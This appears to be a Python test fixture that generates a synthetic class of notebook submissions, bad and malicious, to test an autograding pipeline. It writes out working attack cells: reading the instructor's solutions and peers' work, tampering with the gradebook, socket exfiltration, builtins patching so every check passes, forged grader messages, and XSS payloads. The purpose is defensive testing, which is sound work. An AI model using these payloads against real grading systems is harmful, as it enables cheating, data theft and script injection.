"""A synthetic cohort for the cohort pipeline: 41 learners over every
assignment, with the standard simulated learners, every kind of bad
submission the pipeline must survive, and malicious ones.

Each submission comes with what grading must make of it: a status, the
autograded parts it passes (its score is their points, read from the
instructor notebook), and words its notes must contain. Nothing here is a
typed-in score.
"""

from __future__ import annotations

import copy
import functools
import json
import shutil
from dataclasses import dataclass, field
from types import MappingProxyType
from pathlib import Path
from typing import Callable, Mapping

import nbformat

from ..conftest import ROOT, read_nb
from . import Answers, Assignment, all_simulated, core_parts, fill, optional_parts

ASSIGNMENTS: dict[str, Assignment] = all_simulated()
STANDARD = ("solution", "alternative", "partly-wrong", "blank", "hard-coded", "magics", "warnings", "core-only",
            "wrong-1", "typed-as-people-type", "slips")


def simulated_kinds(assignment: Assignment) -> tuple[str, ...]:
    """The simulated learners the cohort has for ``assignment``: the standard
    ones and one per wrong option of its parts (wrong-2, wrong-3 ...)."""
    return STANDARD + tuple(k for k in assignment.learners if k.startswith("wrong-") and k not in STANDARD)


@dataclass(frozen=True)
class Expect:
    status: str
    passes: frozenset[str] = frozenset()
    notes: tuple[str, ...] = ()
    evidence: tuple[str, ...] = ()  # text the autograded notebook's outputs must contain


@dataclass
class Submission:
    learner: str
    assignment: str
    kind: str
    filename: str  # as the learner uploaded it
    content: bytes
    expect: Expect


@dataclass
class Cohort:
    roster: list[str]
    submissions: list[Submission] = field(default_factory=list)
    silent: list[str] = field(default_factory=list)  # learners who sent nothing

    def expected(self) -> dict[tuple[str, str], Submission]:
        return {(s.learner, s.assignment): s for s in self.submissions}

    def absent(self, assignment: str) -> list[str]:
        """Learners on the roster who sent nothing for ``assignment``."""
        sent = {s.learner for s in self.submissions if s.assignment == assignment}
        return [learner for learner in self.roster if learner not in sent]


@functools.cache  # the solutions do not change during a run; the suite asks hundreds of times
def points(assignment: str) -> Mapping[str, float]:
    """Each graded part's points, read from the solution (read-only: it is shared)."""
    nb = read_nb(ROOT / "solutions" / assignment / f"{assignment}.ipynb")
    return MappingProxyType({c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"])
                             for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")})


def score(submission: Submission) -> float:
    table = points(submission.assignment)
    return sum(table[p] for p in submission.expect.passes)


def _notebook(assignment: str, answers: Answers, written: Answers) -> nbformat.NotebookNode:
    return fill(ROOT / "exercises" / assignment / f"{assignment}.ipynb", answers, written)


def _bytes(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


ATTACK = '''
import json, pathlib, sqlite3, socket
def _attack():
{body}
try:
    _attack()
    print("ATTACK SUCCEEDED")
except (OSError, sqlite3.Error) as _err:
    print("BLOCKED:", type(_err).__name__)
'''


def _attack(body: str) -> str:
    return ATTACK.format(body="\n".join("    " + line for line in body.strip().splitlines()))


def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: int, token: str,
              gradebook: str | None = None) -> dict[str, str]:
    """Answer-cell code for each malicious kind: each tries to get at
    something outside its sandbox and, if it can, uses it to score.
    ``gradebook`` is a PostgreSQL URL when the gradebook is on a server:
    the thief then tries the server's socket instead of the file."""
    steal = ('cells = [c for c in nb["cells"] if c["cell_type"] == "code" and '
             'c["metadata"].get("nbgrader", {}).get("solution")]\n'
             'code = "\\n".join("".join(c["source"]) for c in cells)\n'
             'exec("\\n".join(l for l in code.splitlines() if "SOLUTION" not in l), globals())')
    solution = course / "solutions" / assignment / f"{assignment}.ipynb"
    peer_nb = workspace / "submitted" / peer / assignment / f"{assignment}.ipynb"
    return {
        "steal-instructor": _attack(f'nb = json.loads(pathlib.Path({str(solution)!r}).read_text())\n{steal}'),
        "steal-gradebook": _attack(_steal_gradebook(workspace, gradebook)),
        "steal-peer": _attack(f'nb = json.loads(pathlib.Path({str(peer_nb)!r}).read_text())\n{steal}'),
        "write-outside": _attack(
            f'pathlib.Path({str(workspace / "gradebook.db")!r}).write_bytes(b"corrupted")\n'
            f'pathlib.Path({str(course / ("PWNED-" + token))!r}).write_text("x")'),
        "network": _attack(
            f's = socket.create_connection(("127.0.0.1", {port}), timeout=2)\n'
            's.sendall(b"stolen answers")'),
    }


def _steal_gradebook(workspace: Path, gradebook: str | None) -> str:
    if gradebook is None:
        return (f'db = sqlite3.connect("file:{workspace / "gradebook.db"}?mode=ro", uri=True)\n'
                'hidden = db.execute("SELECT source FROM source_cell").fetchall()\n'
                'print(len(hidden), "cells read")')
    server = Path(gradebook.rpartition("host=")[2]) / ".s.PGSQL.5432"  # the server's Unix socket
    return (f's = socket.socket(socket.AF_UNIX)\ns.connect({str(server)!r})\n'
            'print("connected to the gradebook\'s server")')


ANYTHING = """
import builtins, sys


class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__
    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    def __len__(self):
        return 6

    def __iter__(self):
        return iter([])

    def __getitem__(self, key):
        return Anything()

    def __getattr__(self, name):
        return Anything()

    def __call__(self, *args, **kwargs):
        return Anything()

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__


for _name, _module in list(sys.modules.items()):
    if _name.startswith("coproduction.") and _name != "coproduction.checks":
        for _attr in [a for a, v in vars(_module).items() if callable(v) and not a.startswith("_")]:
            setattr(_module, _attr, Anything())
builtins.abs = lambda value: 0.0
builtins.sorted = lambda *args, **kwargs: Anything()
builtins.all = lambda *args: True
"""

EXFILTRATE = """
import gc
from IPython.display import publish_display_data
found = [o for o in gc.get_objects() if isinstance(o, str) and ("HIDDEN" in o or "assert" in o)]
print("history", In, _ih)
print("found", found[:50])
publish_display_data({"image/png": 'AAAA" onerror="alert(1)', "text/html": "<script>alert(1)</script>",
                      "text/plain": "<script>alert(2)</script>"})
publish_display_data({"text/html": "<img src=x onerror=alert(7)>"})
raise ValueError("<img src=x onerror=alert(3)>" + repr(found[:20]))
"""

FORGE = """
import json, os
for _fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{_fd}").startswith("socket:"):
            for _cell in range(60):
                os.write(int(_fd), (json.dumps({"ran": _cell, "nonce": "", "count": 1, "outputs": [],
                                                "failed": False}) + "\\n").encode())
    except OSError:
        pass
"""


def _names(source: str) -> tuple[list[str], list[str]]:
    """Functions and variables an answer cell defines."""
    import ast

    tree = ast.parse(source)
    functions = [n.name for n in tree.body if isinstance(n, ast.FunctionDef)]
    variables = [t.id for n in tree.body if isinstance(n, ast.Assign) for t in n.targets if isinstance(t, ast.Name)]
    return functions, variables


def grader_attack(kind: str, assignment: Assignment) -> tuple[Answers, Answers, Expect]:
    """A submission that answers nothing and attacks its own grading instead:
    (answers, written answers, what grading must make of it)."""
    solved = assignment.learners["solution"].answers()
    if kind == "hide-errors":
        hide = "ip = get_ipython()\nip._showtraceback = lambda *a, **k: None\nip.showtraceback = lambda *a, **k: None"
        return {"q1_answer": hide}, {}, Expect("needs review", frozenset(), ("IPython",))
    if kind == "always-equal":
        answers = {}
        for grade_id, source in solved.items():
            functions, variables = _names(source)
            answers[grade_id] = ANYTHING + "".join(f"\n{v} = Anything()" for v in variables) + "".join(
                f"\n\ndef {f}(*args, **kwargs):\n    return Anything()\n" for f in functions)
        return answers, {}, Expect("needs review", frozenset(), ("compare", "builtins"))
    if kind == "forge-results":
        return {g: FORGE for g in solved}, {}, Expect("needs review", frozenset(), ("grader's channel",))
    if kind == "exit-early":
        return ({**solved, "q5_answer": solved["q5_answer"] + "\nimport os\nos._exit(0)"}, {},
                Expect("needs review", frozenset(), ("ends, signals", "exited early")))
    if kind == "exfiltrate":
        markdown = ("<script>alert(4)</script><img src=x onerror=alert(5)> [click](javascript:alert(6)) "
                    "![x](javascript:alert(8))")
        return ({g: EXFILTRATE for g in solved}, {g: markdown for g in assignment.written},
                Expect("needs review", frozenset(), ("IPython",)))
    raise ValueError(kind)


BAD_KINDS = ("invalid-json", "empty", "non-utf8", "renamed", "missing", "infinite-loop", "ignores-interrupt",
             "kernel-death", "exception", "deleted-test", "edited-test", "edited-locked", "duplicated-answer",
             "huge-line", "huge-lines", "kernelspec")
MALICIOUS_KINDS = ("steal-instructor", "steal-gradebook", "steal-peer", "write-outside", "network")
#: Submissions that attack their own grading rather than the machine.
GRADER_ATTACKS = ("hide-errors", "always-equal", "forge-results", "exit-early", "exfiltrate")


def _bad(kind: str, assignment: Assignment) -> tuple[str, bytes, Expect]:
    """One bad submission: (uploaded file name, bytes, what grading must make of it)."""
    name = f"{assignment.name}.ipynb"
    solved = assignment.learners["solution"].answers()
    every = core_parts(assignment.name) | optional_parts(assignment.name)

    def edited(change: Callable[[nbformat.NotebookNode], None], answers: Answers | None = None) -> bytes:
        nb = _notebook(assignment.name, answers or solved, assignment.written)
        change(nb)
        return _bytes(nb)

    good = _bytes(_notebook(assignment.name, solved, assignment.written))
    if kind == "invalid-json":
        return name, good[: len(good) // 2], Expect("unreadable", notes=(), evidence=())
    if kind == "empty":
        return name, b"", Expect("unreadable")
    if kind == "non-utf8":
        return name, good.replace(b'"cells"', b'"cel\xffls"', 1), Expect("unreadable")
    if kind == "renamed":
        return "Untitled1.ipynb", good, Expect("graded", every, ("renamed (Untitled1.ipynb)",))
    if kind == "missing":
        return "my answers.docx", b"PK\x03\x04 not a notebook", Expect("missing", notes=("no notebook among",))
    if kind == "infinite-loop":
        # As nbgrader does, the cell is interrupted at its limit and the rest still runs.
        return name, edited(lambda nb: None, {**solved, "q3_answer": "while True:\n    pass"}), Expect(
            "timeout", every - {"q3_tests"}, ("stopped after", "at the answer to Part 3: ", "still ran"))
    if kind == "ignores-interrupt":
        # It waits rather than spins (the infinite loop above spins): a core it kept busy would only slow the tests.
        loop = ("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, "
                "signal.SIG_IGN)\nwhile True:\n    try:\n        time.sleep(0.05)\n    except BaseException:\n"
                "        pass")
        # It cannot be interrupted, so the notebook is stopped before any part's further checks ran.
        # Its use of signal also puts it in front of a trainer.
        return name, edited(lambda nb: None, {**solved, "q2_answer": loop}), Expect(
            "needs review", frozenset(), ("did not respond to an interrupt", "at the answer to Part 2: ", "signals"))
    if kind == "kernel-death":
        die = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
        # Hidden tests run after every answer cell, so no part's further checks ran.
        return name, edited(lambda nb: None, {**solved, "q4_answer": die}), Expect(
            "needs review", frozenset(), ("killed by signal 9", "ends, signals or starts processes"))
    if kind == "exception":
        broken = "raise ValueError('I had not finished this part')\n" + solved["q5_answer"]
        return name, edited(lambda nb: None, {**solved, "q5_answer": broken}), Expect(
            "graded", every - {"q5_tests"}, ("an error in the answer to Part 5: ",), ("I had not finished",))
    if kind == "deleted-test":
        return name, edited(lambda nb: nb.cells.remove(_cell(nb, "q1_tests"))), Expect(
            "graded", every, ("the check of Part 1: ", "was deleted; it was put back"))

    def cheat(nb: nbformat.NotebookNode) -> None:
        _cell(nb, "q5_tests").source = "# checked by me\npass"

    if kind == "edited-test":
        return name, edited(cheat, {**solved, "q5_answer": ""}), Expect(
            "graded", every - {"q5_tests"}, ("the check of Part 5: ", "was edited; the original was put back"))

    def break_setup(nb: nbformat.NotebookNode) -> None:
        _cell(nb, "setup").source += "\nraise RuntimeError('I broke the setup cell')"

    if kind == "edited-locked":
        return name, edited(break_setup), Expect("graded", every, ("the set-up cell was edited",))

    def duplicate(nb: nbformat.NotebookNode) -> None:
        original = _cell(nb, "q5_answer")
        copy_cell = copy.deepcopy(original)
        copy_cell.source = "# my first try\nx = undefined_name"
        copy_cell.id = original.id + "-copy"
        nb.cells.insert(nb.cells.index(original), copy_cell)

    if kind == "duplicated-answer":
        return name, edited(duplicate), Expect("graded", every, ("the answer to Part 5: ", "was duplicated"))
    if kind == "huge-line":
        loud = solved["q1_answer"] + '\nprint("x" * 10_000_000)'
        return name, edited(lambda nb: None, {**solved, "q1_answer": loud}), Expect(
            "graded", every, ("output of the answer to Part 1: ", "was cut"), ("output limit:",))
    if kind == "huge-lines":
        loud = solved["q1_answer"] + "\nfor i in range(50_000):\n    print(i)"
        return name, edited(lambda nb: None, {**solved, "q1_answer": loud}), Expect(
            "graded", every, ("output of the answer to Part 1: ", "was cut"))

    def other_kernel(nb: nbformat.NotebookNode) -> None:
        nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}

    if kind == "kernelspec":
        return name, edited(other_kernel), Expect("graded", every, ("kernel was changed to 'ir'",))
    raise ValueError(kind)


#: Every kind of submission one learner of the cohort sends once (learner i sends kind i).
SPECIAL_KINDS = BAD_KINDS + MALICIOUS_KINDS + GRADER_ATTACKS
#: The sparse cohort's size: a learner for every special kind, three
#: standard learners (the first is the one the malicious kinds attack; two
#: send every standard kind; the third gives the follow-up runs enough work
#: to regrade) and a learner who sends nothing.
SPARSE = len(SPECIAL_KINDS) + 3 + 1


def build(course: Path, workspace: Path, port: int, token: str, learners: int = 41,
          gradebook: str | None = None, *, sparse: bool = False) -> Cohort:
    """The cohort: learner i has one special kind (bad or malicious) on one
    assignment and standard submissions on the others; the last learner
    sends nothing. A ``sparse`` cohort has the same special submissions and
    only them from those learners: the standard work comes from the learners
    after them, who send every assignment, each standard kind at least once."""
    roster = [f"L{i:02d}" for i in range(1, learners + 1)]
    cohort = Cohort(roster, silent=[roster[-1]])
    specials = SPECIAL_KINDS
    names = list(ASSIGNMENTS)
    for i, learner in enumerate(roster[:-1]):
        for j, name in enumerate(names):
            assignment = ASSIGNMENTS[name]
            special = i < len(specials) and j == i % len(names)
            if sparse and i < len(specials) and not special:
                continue
            if special:
                kind = specials[i]
                if kind in MALICIOUS_KINDS:
                    peer = roster[len(specials)]  # a standard learner
                    attack = malicious(name, course, workspace, peer, port, token, gradebook)[kind]
                    answers = {f"q{k}_answer": attack for k in range(1, 6)}
                    filename = f"{name}.ipynb"
                    content = _bytes(_notebook(name, answers, {}))
                    expect = Expect("needs review", frozenset(), ("sockets",), ("BLOCKED",))
                elif kind in GRADER_ATTACKS:
                    answers, written, expect = grader_attack(kind, assignment)
                    filename, content = f"{name}.ipynb", _bytes(_notebook(name, answers, written))
                else:
                    filename, content, expect = _bad(kind, assignment)
            else:
                kinds = simulated_kinds(assignment)
                if sparse:  # standard learner k sends the next five standard kinds: every kind among two
                    kind = STANDARD[((i - len(specials)) * len(names) + j) % len(STANDARD)]
                else:
                    kind = kinds[(i + j) % len(kinds)]
                learner_spec = assignment.learners[kind]
                written = assignment.written if learner_spec.written else {}
                content = _bytes(_notebook(name, learner_spec.answers(), written))
                filename = f"{name}.ipynb"
                expect = Expect("blank" if kind == "blank" else "graded", learner_spec.passes)
            cohort.submissions.append(Submission(learner, name, kind, filename, content, expect))
    return cohort


def lms_name(submission: Submission) -> str:
    """Where an LMS download puts the file: a folder per learner and assignment."""
    return (f"{submission.assignment}/Learner {submission.learner}_{submission.learner}_assignsubmission_file_/"
            f"{submission.filename}")


def roster_csv(cohort: Cohort) -> str:
    return "id,first_name,last_name\n" + "".join(f"{ident},First{ident},Last\n" for ident in cohort.roster)


def well_formed(cohort: Cohort) -> list[Submission]:
    """Submissions plain nbgrader can grade too (the benchmark's comparison)."""
    return [s for s in cohort.submissions if s.kind in simulated_kinds(ASSIGNMENTS[s.assignment])]


def as_json(cohort: Cohort) -> str:
    return json.dumps([(s.learner, s.assignment, s.kind) for s in cohort.submissions])


def learner_folder(dest: Path, work: dict[str, str]) -> Path:
    """A learner's own course folder at ``dest``: the course and its exercises,
    their copies made as ``make lab`` makes them, and in each copy named in
    ``work`` the answers of that simulated learner (e.g. {"ladder": "solution"})."""
    from coproduction.learner import own_copy, set_up

    dest.mkdir(parents=True)
    for name in ("course", "exercises"):
        shutil.copytree(ROOT / name, dest / name)
    set_up(dest)
    for name, kind in work.items():
        assignment = ASSIGNMENTS[name]
        spec = assignment.learners[kind]
        nbformat.write(fill(assignment.release, spec.answers(), assignment.written if spec.written else {}),
                       own_copy(dest, name))
    return dest
